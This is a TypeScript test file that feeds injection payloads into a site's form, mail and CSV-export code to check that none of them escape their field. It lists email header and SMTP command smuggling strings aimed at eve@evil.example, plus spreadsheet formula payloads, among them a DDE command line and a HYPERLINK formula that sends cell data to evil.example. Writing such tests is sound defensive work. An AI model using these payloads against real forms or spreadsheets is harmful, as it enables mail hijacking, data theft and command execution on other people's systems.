import { describe, expect, test } from 'vitest'
import { deskAt } from '#cli/testing/run-command.ts'
import { purposes } from '#forms/beta/beta-rules.ts'
import { contact } from '#forms/contact/contact-rules.ts'
import type { Form } from '#forms/engine/form.ts'
import { forms } from '#forms/registry.ts'
import { collectUrl } from '#server/outbox/channels/collect.ts'
import { createFakeChannel } from '#server/testing/fake-channel.ts'
import { startMailServer } from '#server/testing/mail-server.ts'
import { channelTo } from '#server/testing/smtp-channel.ts'
import { openTestServices } from '#server/testing/test-services.ts'

const headers = [
  'x\r\nBcc: eve@evil.example',
  'x\nBcc: eve@evil.example',
  'x\rBcc: eve@evil.example',
  'x\u0085Bcc: eve@evil.example',
  'x\u2028Bcc: eve@evil.example',
  'x\r\n\r\nA body of my own',
  'x\r\n.\r\nMAIL FROM:<eve@evil.example>',
  'x%0d%0aBcc:%20eve@evil.example',
  '=?utf-8?Q?x=0D=0ABcc:_eve@evil.example?=',
  'x\u0000\r\nReply-To: eve@evil.example',
]
const recipients = [
  'ada@example.com, eve@evil.example',
  'ada@example.com;eve@evil.example',
  'ada@example.com eve@evil.example',
  'ada@example.com>,<eve@evil.example',
  '"ada@example.com" <eve@evil.example>',
  'Friends: eve@evil.example;',
  'ada@example.com(eve@evil.example)',
  '"a,eve@evil.example"@example.com',
  'ada@example.com\r\nRCPT TO:<eve@evil.example>',
]
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  ' =1+1',
  '";=1+1;"',
  '",=1+1,"',
  '"\n=1+1',
]
const corpus = [...headers, ...recipients, ...formulas]

/** A post with the words in every field that a person types. */
const everywhere = (form: Form, words: string) =>
  new URLSearchParams(
    Object.fromEntries(form.fields.map((field) => [field, { post: '1', purpose: purposes[0] }[field] ?? words])),
  )

/** The saved rows of posts with the words in every field, and in the free fields alone. */
async function saved(words: string) {
  const services = await openTestServices({ channels: [createFakeChannel('smtp')] })
  const good = {
    name: 'Ada',
    email: 'ada@example.com',
    org: words,
    job: words,
    help: words,
    phoneNumber: words,
    website: '',
  }
  for (const form of forms) {
    await services.submissions.accept(form, everywhere(form, words))
    const free = { ...Object.fromEntries(everywhere(form, words)), ...good }
    await services.submissions.accept(form, new URLSearchParams(free))
  }
  const rows = await services.database.selectFrom('submissions').selectAll().execute()
  return {
    ...services,
    rows: rows.map((row) => ({ ...row, fields: JSON.parse(row.fields) as Record<string, string> })),
  }
}

describe.each(corpus)('%j', (words) => {
  test('reaches no header and no recipient of a mail, even past the rules', async () => {
    const { mails, port } = await startMailServer()
    const fields = { name: words, email: words, 'contact-name': words, 'contact-email': words, help: words }
    await channelTo(port).deliver(
      { id: '1', form: 'contact', createdAt: '2026-11-21T10:00:00.000Z', fields },
      { idempotencyKey: 'key-1', signal: new AbortController().signal },
    )
    expect(mails).toHaveLength(1)
    const [mail] = mails
    expect(mail).toMatchObject({ from: 'site@deadpan.example', to: ['owner@deadpan.example'] })
    expect(Object.keys(mail?.headers ?? {}).sort()).toEqual([
      'auto-submitted',
      'content-type',
      'date',
      'from',
      'message-id',
      'mime-version',
      'subject',
      'to',
    ])
  })

  test('stays in its own parameter of the form-collection service', () => {
    const fields = { name: words, email: words, phoneNumber: words, help: words }
    const url = collectUrl('http://collect.example/f?key=1', 'contact', fields)
    expect(url.origin + url.pathname + url.hash).toBe('http://collect.example/f')
    const wellFormed = words.toWellFormed()
    expect([...url.searchParams]).toEqual([
      ['key', '1'],
      ['name', wellFormed],
      ['email', wellFormed],
      ['phone', wellFormed],
      ['help', wellFormed],
    ])
  })

  test('is one cell of a spreadsheet, and no formula', async () => {
    const { dataDir, rows } = await saved(words)
    expect(rows.length).toBeGreaterThan(0)
    const { printed } = await deskAt(dataDir, ['leads', '--csv'])
    const [columns, ...cells] = readCsv(printed)
    expect(cells).toHaveLength(rows.length)
    for (const row of cells) {
      expect(row).toHaveLength(columns?.length ?? 0)
      for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/u)
    }
  })
})

test('a name with a line break is refused by the contact form', async () => {
  const { submissions } = await openTestServices()
  for (const words of headers.filter((text) => /[\r\n]/.test(text))) {
    expect(await submissions.accept(contact, everywhere(contact, words))).toMatchObject({ state: 'refused' })
  }
})

/** Reads CSV after RFC 4180. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (quoted === undefined && plain === '' && end === '') break
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
    if (end === '\r\n') rows.push([])
  }
  return rows.filter((row) => row.length > 0)
}
